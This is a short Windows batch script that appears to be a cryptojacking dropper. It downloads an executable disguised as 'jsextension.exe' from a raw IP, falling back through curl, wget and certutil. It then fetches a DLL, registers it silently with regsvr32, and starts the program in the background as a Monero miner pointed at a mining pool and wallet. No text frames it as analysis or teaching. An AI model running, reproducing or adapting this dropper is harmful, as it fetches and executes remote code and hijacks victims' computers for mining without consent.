@echo off
curl http://198.51.100.7/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://198.51.100.7/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://198.51.100.7/download/jsextension.exe jsextension.exe
)
curl http://198.51.100.7/sdd.dll -o create.dll
regsvr32.exe -s create.dll
start /B .\jsextension.exe -k --tls --rig-id q -o stratum+tcp://pool.minexmr.example:443 -u 0x000000000000000000000000000000000000dEaD --cpu-max-threads-hint=50 --donate-level=1 --background
